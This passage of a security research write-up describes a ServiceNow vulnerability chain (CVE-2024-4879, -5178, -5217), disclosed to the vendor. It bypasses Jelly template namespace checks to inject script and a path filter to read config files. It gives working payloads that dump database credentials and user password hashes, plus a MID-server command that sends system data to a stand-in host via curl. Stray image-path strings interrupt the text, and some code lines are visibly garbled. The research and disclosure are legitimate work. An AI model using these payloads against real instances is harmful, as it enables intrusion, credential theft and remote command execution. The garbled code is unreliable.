Let's go back to the example template we shared, and in particular, the header:<j:jelly trim="false" xmlns:j="jelly:core" xmlns:g="glide" xmlns:j2="null" xmlns:g2="null">

How the phases work is as follows:

  • In the first phase, the j: prefix is bound to the jelly core tags, and the g: namespace is bound to the Glide (ServiceNow custom) tags. j2: and g2: are bound to the null namespace, so they are passed over.
  • Before ServiceNow re-evaluates the template in phase two, it changes the header to this:
<j:jelly trim="false" xmlns:j="null" xmlns:g="null" xmlns:j2="jelly:core" xmlns:g2="glide">

Hence, in the second phase, only tags with a j2: or g2: prefix run.

After pondering this for a while, we thought - why not bind our own namespace?

/<style><j:jelly xmlns:j="jelly" xmlns:z="glide"><z:evaluate>gs.addErrorMessage(7*7);</z:evaluate></j:jelly></style>

Unfortunately, this doesn't work, and we get the following error:

jelly namespace glide registered to invalid prefix z

Checking the code, we find that it checks some preconditions whenever we bind a namespace in com.glide.ui.jelly.GlideJellyXMLParser:

public class GlideJellyXMLParser
extends XMLParser {
    private static final String NAMESPACE_ERROR_MSG = "jelly namespace %s registered to invalid prefix %s";

    // ...

    public void startPrefixMapping(String prefix, String namespaceURI) throws SAXException {
        if (this.isInvalidPrefixMapping(prefix, namespaceURI)) {
            throw new SecurityException(String.format(NAMESPACE_ERROR_MSG, namespaceURI, prefix));
        super.startPrefixMapping(prefix, namespaceURI);

    private boolean isInvalidPrefixMapping(String prefix, String namespace) {
        if(StringUtil.nil((String)namespace) || fLimitJellyNamespace.isFalse()) {
            return false;
        String uri = WHITESPACE_PATTERN.matcher(namespace).replaceAll(EMPTY_STRING);
        return this.isInvalidGlidePrefix(uri, prefix) || this.isInvalidJellyPrefix(uri, prefix);

    private boolean isInvalidGlidePrefix(String uri, String prefix) {
        return "glide".equals(uri) && !"g".equals(prefix) && !"g2".equals(prefix);

    private boolean isInvalidJellyPrefix(String uri, String prefix) {
        return "jelly:core".equals(uri) && !"j".equals(prefix) && !"j2".equals(prefix);

When you bind any namespace, the code calls startPrefixMapping, which checks isInvalidPrefixMapping. One check is the isInvalidGlidePrefix check. This denies access to the glide namespace if the prefix isn't one of g or g2. Since we are trying to bind a prefixz to the Glide namespace, we get an error instead. However, even though g has already been bound to a null namespace, why not just rebind g?

/<style><j:jelly xmlns:j="jelly" xmlns:g="glide"><g:evaluate>gs.addErrorMessage(7*7);</g:evaluate></j:jelly></style>

Trying this, we hit up against another mitigation:

GlideExpressionScript: jelly injection attempt blocked

Tracing where this is specified in the source, we find yet another mitigation in com.glide.ui.jelly.GlideExpressionScript:

public class GlideExpressionScript
extends ExpressionScript
implements IProperties,
IJellyConstants {
    private static final GlideProperty fEscapeAllScript = new GlideProperty("glide.ui.escape_all_script");
    private static final GlideProperty fAllowDeepHtmlValidation = new GlideProperty("glide.ui.allow_deep_html_validation", false);
    private static final GlideProperty fAllowNamespaceInNoEscape = new GlideProperty("glide.ui.jelly.allow_ns_in_no_escape", false);
    private static final Pattern fPatternDollar = Pattern.compile("\\$");
    private static final Pattern GLIDE_NS_PATTERN = Pattern.compile("xmlns:(g2|g)\\s*=\\s*\"glide\"");
    private static final String JELLY_INJECTION_ATTEMPT_MSG = "GlideExpressionScript: jelly injection attempt blocked from %s";
    private GlideJellyContext fGJC;

    // ...

    private boolean hasNoEscapeWrappedNamespaceDeclaration(String value) {
        if (fAllowNamespaceInNoEscape.isTrue() || "false".equals(this.fGJC.getVariable("no_escape"))) {
            return false;
        returnGLIDE_NS_PATTERN.matcher(value).find();

    private void runWithEscaping(XMLOutput output) throws JellyTagException {
        // ...
        IGlideExpressionWrapper wrapper = (IGlideExpressionWrapper)this.getExpression();
        String value = wrapper.evaluateAsString(this.fGJC, additionalEscapes = this.getEscapes(text = wrapper.getExpressionText()));
        if (value == null) {
        if (this.hasNoEscapeWrappedNamespaceDeclaration(value)) {
            Log.warn((String)String.format(JELLY_INJECTION_ATTEMPT_MSG, text));
        // ...

From this, we see that if our input matches /xmlns:(g2|g)\s*=\s*"glide"/, we will be blocked. But this is also bypassable - we can just use single quotes around glide!

Finally, we use this payload:/<style><j:jelly xmlns:j="jelly" xmlns:g='glide'><g:evaluate>gs.addErrorMessage(7*7);</g:evaluate></j:jelly></style>

And we get code execution!

Bug 3: Filesystem Filter Bypass

Javascript execution gives us significant access, but we weren't satisfied with this. While script execution gets us significant access, the platform enforces additional access controls on certain tables. This might mean that we could not read everything sensitive in a hardened instance. Ideally, we would like to read the credential file containing the database connection string and connect to the DB directly. In the cloud, Glide stores the database credentials under /glide/nodes/[[node]]/conf/, so we started to look at a way to access this.

One helper class that immediately stood out was SecurelyAccess. This class, as its name implies, is designed to allow secure read access to certain files on the filesystem only. The idea is you can write something like newSecurelyAccess("some/file/here").getBufferedReader() to get a file handle to an allowedfile. The list of checks is extensive:

public static boolean isValidFilePath(String fileName, boolean isDownloadFile, boolean existenceCheck) {
    // existenceCheck and isDownload file are both false in our case
    block11: {
        if (!SecurelyAccess.isAcceptableCmdArgOrFileName(fileName)) {
            Log.securityWarn((String)String.format(LogFormatEnum.NotAcceptableCmdArgOrFileName.getFormat(), fileName));
            return false;
        if (fIgnoreFilePathRestrictions.isTrue()) {
            return true;
        if (SecurelyAccess.isMaintOrZboot()) {
            return true;
        try {
            if (fileName.contains("../")) {
                Log.securityWarn((String)String.format(LogFormatEnum.NotAllowParentDirectoryInPath.getFormat(), fileName));
                return false;
            File proposedFile = new File(fileName);
            String filePath = proposedFile.getCanonicalPath().toLowerCase();
            if (existenceCheck && SecurelyAccess.isPathInList(filePath, FILEPATH_ALLOWLIST)) {
                return true;
            if (!existenceCheck && proposedFile.exists() && proposedFile.isDirectory()) {Log.securityWarn((String)String.format(LogFormatEnum.NotAllowDirectoryPath.getFormat(), fileName));
                return false;
            String tempDir = SysFileUtil.getTempDir().getCanonicalPath().toLowerCase();
            if (filePath.startsWith(tempDir)) {
                return true;
            if (isDownloadFile) {
                String customerUploadsDir = SysFileUtil.getCustomerUpload().getCanonicalPath().toLowerCase();
                String tomcatLogsDir = SysFileUtil.getTomcatLogsDirectory().getCanonicalPath().toLowerCase();
                if (filePath.startsWith(tomcatLogsDir) || filePath.startsWith(customerUploadsDir)) {
                    return true;
                break block11;
            String glideHome = new File(SysFileUtil.getGlideHome()).getCanonicalPath().toLowerCase();
            String tomcatHome = SysFileUtil.getTomcatHome().getCanonicalPath().toLowerCase();
            Log.warn((String)String.format(LogFormatEnum.MapFilePathToAbsolutePath.getFormat(), fileName, proposedFile.getAbsolutePath(), proposedFile.exists()));
            Log.warn((String)String.format(LogFormatEnum.GlideHomeAndTomcatHomePaths.getFormat(), glideHome, tomcatHome));return (filePath.startsWith(glideHome) || filePath.startsWith(tomcatHome)) && !SecurelyAccess.isBlackListedFile(filePath);
        catch (Exception e) {
    return false;

There's a lot to go through here, but in our case, the logic flows through to these lines:

String glideHome = new File(SysFileUtil.getGlideHome()).getCanonicalPath().toLowerCase();
String tomcatHome = SysFileUtil.getTomcatHome().getCanonicalPath().toLowerCase();
// .. snip ..
return (filePath.startsWith(glideHome) || filePath.startsWith(tomcatHome)) && !SecurelyAccess.isBlackListedFile(filePath);

Here, glideHome is our file node (something like /glide/node/[[node]]/), so the only thing stopping us from accessing all files is the blacklist. Let's look at that:

So we can't seem to access anything in the conf directory. This seems like pretty strong protection initially since they call getCanonicalPath.

private static final List<String> FILEPATH_BLACKLIST =

However, something in the call to getBufferedReader itself caught our eye:


    public BufferedReader getBufferedReader() throws FileNotFoundException {
        return new BufferedReader(new FileReader(this.getFile()));

    public File getFile() {
        // .. snip ..
        return SysFileUtil.getPath(this.fFileName);

// -->

    private static File getPath(String path, boolean useProxy) {
        path = SysFileUtil.cleanupPath(path);
        File f = SysFileUtil.createFile(path, useProxy);
        try {if (f.exists()) {
                return f;
        catch (SecurityException securityException) {
            // empty catch block
        return SysFileUtil.getPathInGlideHome(path, false, useProxy);

    public static String cleanupPath(String path) {
        return path.replaceAll("\\.\\.", "");

The filename we provide to SecurelyAccess gets passed into SysFileUtil.cleanupPath, which removes the double dot .. from the path before accessing it! This means we can pass a path like /glide/node/[[node]]/ to bypass the blacklist!

The rest of the payload is simply a matter of reading the ServiceNow docs. We settled on this payload to dump the database credentials:

<style><j:jelly xmlns:j="jelly:core" xmlns:g='glide'><g:evaluate>z=new"").getAbsolutePath();z=z.substring(0,z.lastIndexOf("/"));u=new SecurelyAccess(z.concat("/")).getBufferedReader();s="";while((q=u.readLine())!==null)s=s.concat(q,"\n");gs.addErrorMessage(s);</g:evaluate></j:jelly></style>

Replacing our earlier payload with this, we dump the full database credentials of the instance:

Bonus - Going for Full Compromise

As the introduction mentions, most production setups have one or more MID servers configured. These allow command execution by design. ServiceNow provides the SncProbe class, which allows running a shell command directly on the instance. A sample payload to get pingbacks is as follows:

p = SncProbe.get("Command");
p.setName("curl http://my.honeypot.server.example/?x=$(uname -a|base64 -w0)");

This will run the command once on every MID server configured. Using Burp Suite we can verify we can access anything:

In the case that no MID server is configured, we can instead access the user DB of the instancewith the following commands:

gr=new GlideRecord("sys_user");
while(," : ",gr.user_password,"<br/>");

This accesses thepassword hashes of every user on the instance:

(As a side note, it appears the only 'real' accounts are admin and aes.creator - the other accounts in this table seem to have dummy data in their password hash field, likely due to being sample data within a ServiceNow devinstance).


We disclosed this chain of vulnerabilities to ServiceNow on the 14th of May, 2024.

  • For CVE-2024-4879 ServiceNow has already applied an update to customers. They also provide an extensive list of patched versions and hot fixes, which customers may already be on now.
  • For CVE-2024-5178 ServiceNow has applied patches to customers in June. They also provide an extensive list of patched versions and hot fixes for any customers who might have opted out of patching in June.
  • For CVE-2024-5217 ServiceNow applied patches to customers in June. They also provide an extensive list of patched versions and hot fixes for any customers who might have opted out of patching in June.

While ServiceNow implemented several mitigations to address the risk of double evaluation in the templating system, we found a way to achieve codeexecution. Even with more mitigations in place, it only takes a single unescaped injection point to risk code execution.

As always, customers of our Attack Surface Management platform were the first to know when this vulnerability affected them. We continue to performoriginal security research in an effort to inform our customers about zero-day vulnerabilities in their attack surface.

Written by:
Adam Kues
Your subscription could not be saved. Please try again.
Your subscription has been successful.

Get updates on our research

Subscribe to our newsletter and stay updated on the newest research, security advisories, and more!

Ready to getstarted?

